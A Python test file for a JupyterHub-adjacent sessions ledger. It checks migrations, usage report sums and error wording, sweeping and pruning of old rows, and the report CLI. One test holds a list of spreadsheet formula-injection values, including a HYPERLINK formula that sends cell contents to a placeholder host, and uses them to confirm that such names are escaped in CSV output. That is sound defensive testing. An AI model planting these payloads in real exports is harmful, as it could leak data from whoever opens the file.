"""The sessions ledger without a hub: its tables made and versioned, the report's sums and words, what a stopped hub
left open closed, old rows exported then pruned, and `campushub report` on a real SQLite file."""

import csv
import datetime
import json
import sqlite3
import subprocess
import time

import pytest
import yaml
from sqlalchemy import insert

from campushub.ledger import store
from campushub.ledger.record import STATE_OUTCOMES, outcome_of
from campushub.ledger.report import ReportError, date_range, report
from campushub.ledger.tables import SESSION_GROUPS, SESSIONS
from campushub.sitefile.read import load_site
from harness import CAMPUSHUB, EMBEDDED

DAY = datetime.date(2026, 10, 1)
T0 = datetime.datetime(2026, 10, 1, 12, tzinfo=datetime.UTC).timestamp()


@pytest.fixture
def site(tmp_path):
    path = tmp_path / "site.yaml"
    path.write_text(yaml.safe_dump({**EMBEDDED, "hub": {"state_dir": "state"}, "ledger": {"keep_days": 30}}))
    (tmp_path / "state").mkdir()
    loaded = load_site(path)
    store.migrate(loaded)
    return loaded


def add(site, rows: list[dict], groups: dict[int, list[str]]):
    with store.connected(site, write=True) as connection:
        for row in rows:  # one by one: an executemany takes its columns from the first row
            connection.execute(insert(SESSIONS).values(**row))
        pairs = [{"session_id": i, "name": g} for i, names in groups.items() for g in names]
        if pairs:
            connection.execute(insert(SESSION_GROUPS), pairs)


def session(i: int, user: str, asked: float, wait: float, hours: float, **extra) -> dict:
    ready = asked + wait
    row = {"id": i, "user": user, "profile": "small", "backend": "local", "asked": asked, "started": ready}
    return (
        row
        | {"ready": ready, "ended": ready + hours * 3600, "outcome": "user", "cpus": 2, "memory_bytes": 2**31}
        | extra
    )


def run_report(site, **args):
    with store.connected(site) as connection:
        return report(
            connection,
            args.get("since", "2026-10-01"),
            args.get("until", "2026-10-31"),
            args.get("by", "group"),
            args.get("group"),
        )


def test_the_tables_are_made_once_with_their_own_version_and_an_unknown_revision_is_named(site):
    assert store.current(site) == store.head() == "0001" and store.problems(site) == []
    assert store.migrate(site) == ("0001", "0001")  # nothing to do the second time
    with sqlite3.connect(store.database.sqlite_file(site)) as db:
        tables = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert {"campushub_sessions", "campushub_session_groups", "campushub_ledger_version"} <= tables
        assert "alembic_version" not in tables  # JupyterHub's own version table is left to JupyterHub
        db.execute("UPDATE campushub_ledger_version SET version_num = '9999'")
    assert store.problems(site) == [
        f"ledger: the sessions ledger in {store.database.shown(site)} is at revision 9999, which this campushub does"
        " not know (a newer campushub made it?): use that campushub"
    ]


def test_the_report_sums_hours_resources_and_waits_per_group_counting_each_session_once_in_the_total(site):
    add(
        site,
        [
            session(1, "ann", T0, 2, 1.0),
            session(2, "ann", T0 + 60, 4, 2.0, gpus=1),
            session(3, "ben", T0 + 120, 10, 0.5, slurm_elapsed=900.0),  # Slurm's elapsed time wins
            session(4, "ben", T0 + 180, 0, 0, ready=None, started=None, outcome="failed"),
        ],
        {1: ["physics"], 2: ["physics", "chem"], 3: ["chem"], 4: ["chem"]},
    )
    found = run_report(site)
    rows = {r["group"]: r for r in found.rows}
    assert rows["physics"] == {
        "group": "physics",
        "sessions": 2,
        "failed_starts": 0,
        "hours": 3.0,
        "cpu_hours": 6.0,
        "gpu_hours": 2.0,
        "memory_gib_hours": 6.0,
        "median_wait_s": 3.0,
        "p90_wait_s": 4.0,
    }
    assert (rows["chem"]["sessions"], rows["chem"]["failed_starts"], rows["chem"]["hours"]) == (2, 1, 2.25)
    assert found.totals()["sessions"] == 3 and found.totals()["hours"] == 3.25  # each session once
    assert [r["user"] for r in run_report(site, by="user").rows] == ["ann", "ben"]
    assert run_report(site, by="month").rows[0]["month"] == "2026-10"
    assert [r["user"] for r in run_report(site, by="user", group="physics").rows] == ["ann"]
    assert [r["group"] for r in run_report(site, group="chem").rows] == ["chem"]  # not its sessions' other groups
    table = found.as_table()
    assert table.splitlines()[0] == "Usage from 2026-10-01 to 2026-10-31 by group"
    assert table.splitlines()[-1].split()[:4] == ["total", "3", "1", "3.25"]
    assert list(csv.DictReader(found.as_csv().splitlines()))[1]["cpu_hours"] == "6.0"
    assert json.loads(found.as_json())["totals"]["failed_starts"] == 1


def test_bad_input_gets_words(site):
    add(site, [session(1, "ann", T0, 1, 1)], {1: ["physics"]})
    with pytest.raises(ReportError, match="--since 2026-11-01 is after --until 2026-10-01: the range is the wrong"):
        run_report(site, since="2026-11-01", until="2026-10-01")
    with pytest.raises(ReportError, match=r"--since: '2026-13-01' is not a date as YYYY-MM-DD"):
        run_report(site, since="2026-13-01")
    with pytest.raises(
        ReportError,
        match=r"--group: no session in the ledger has the group 'phys' \(groups in the"
        r" ledger: physics\)",
    ):
        run_report(site, group="phys")
    with pytest.raises(ReportError, match="--by: 'dept' is not one of user, group, profile"):
        run_report(site, by="dept")
    with pytest.raises(ReportError, match="over 3660 days"):
        date_range("1900-01-01", "2026-01-01")
    empty = run_report(site, since="2026-01-01", until="2026-01-31")
    assert empty.rows == [] and empty.as_table().endswith(
        "No sessions were asked for between 2026-01-01 and 2026-01-31.\n"
    )


FORMULAS = ['=HYPERLINK("http://x/"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tcmd"]


def test_a_group_named_as_a_formula_is_text_in_the_csv_and_the_export(site):
    """Some campuses let users make their own groups: one named as a spreadsheet formula stays text (a leading
    ``'``) in the report's CSV and in the export of pruned sessions; the table and JSON keep the name as it is."""
    now = time.time()
    add(site, [session(1, "ann", T0, 1, 1), session(2, "ben", now - 40 * 86400, 1, 1)], {1: FORMULAS, 2: FORMULAS})
    found = run_report(site)
    rows, shown = list(csv.DictReader(found.as_csv().splitlines())), json.loads(found.as_json())["rows"]
    assert sorted(r["group"] for r in rows) == sorted(f"'{f}" for f in FORMULAS)
    assert sorted(r["group"] for r in shown) == sorted(FORMULAS)
    assert [r["hours"] for r in rows] == [str(r["hours"]) for r in shown]  # numbers as they are
    _, path = store.prune(site, now - 30 * 86400)
    exported = [(r["user"], r["groups"]) for r in csv.DictReader(path.read_text().splitlines())]
    assert exported == [(user, "'" + ";".join(sorted(FORMULAS))) for user in ("ann", "ben")]


def test_rows_a_stopped_hub_left_open_are_closed_with_what_it_knows(site):
    add(site, [session(1, "ann", T0, 2, 0, ended=None, outcome=None)], {})
    assert store.sweep(site) == 1
    with sqlite3.connect(store.database.sqlite_file(site)) as db:
        row = db.execute("SELECT ended, ready, outcome, words FROM campushub_sessions").fetchone()
    assert row == (T0 + 2, T0 + 2, "gone", "the hub stopped; the server was found gone")
    assert store.sweep(site) == 0


def test_old_sessions_are_exported_privately_then_pruned_and_running_ones_kept(site):
    now = time.time()
    old = session(1, "ann", now - 40 * 86400, 1, 1)
    running = session(2, "ben", now - 45 * 86400, 1, 1, ended=None, outcome=None)
    add(site, [old, running, session(3, "cy", now - 86400, 1, 1)], {1: ["physics", "chem"]})
    pruned, path = store.prune(site, now - 30 * 86400)
    export = site.hub.state_dir / "ledger-exports"
    assert (pruned, list(export.iterdir())) == (1, [path])
    assert export.stat().st_mode & 0o777 == 0o700 and path.stat().st_mode & 0o777 == 0o600
    (row,) = csv.DictReader(path.read_text().splitlines())
    assert (row["user"], row["groups"]) == ("ann", "chem;physics")
    with sqlite3.connect(store.database.sqlite_file(site)) as db:
        assert [u for (u,) in db.execute("SELECT user FROM campushub_sessions ORDER BY id")] == ["ben", "cy"]
        assert db.execute("SELECT count(*) FROM campushub_session_groups").fetchone() == (0,)


def test_how_a_server_ended_by_itself_becomes_an_outcome():
    assert outcome_of({"state": "TIMEOUT"}) == "time-limit" and outcome_of({"state": "NODE_FAIL"}) == "node-failed"
    assert outcome_of({"state": "OOMKilled"}) == outcome_of({"state": "OUT_OF_MEMORY"}) == "out-of-memory"
    assert outcome_of({"state": "exited"}) == outcome_of({}) == "ended" and len(STATE_OUTCOMES) == 4


def test_campushub_report_reads_the_sites_database(site, tmp_path):
    add(site, [session(1, "ann", T0, 1, 1)], {1: ["physics"]})
    path = tmp_path / "site.yaml"
    done = subprocess.run(
        [
            CAMPUSHUB,
            "report",
            "--config",
            str(path),
            "--since",
            "2026-10-01",
            "--until",
            "2026-10-31",
            "--format",
            "csv",
        ],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0 and done.stdout.splitlines()[1].startswith("physics,1,0,1.0,2.0,"), done
    wrong = subprocess.run(
        [CAMPUSHUB, "report", "--config", str(path), "--since", "2026-10-31", "--until", "2026-10-01"],
        capture_output=True,
        text=True,
    )
    assert wrong.returncode == 2 and "the range is the wrong way round" in wrong.stderr and not wrong.stdout
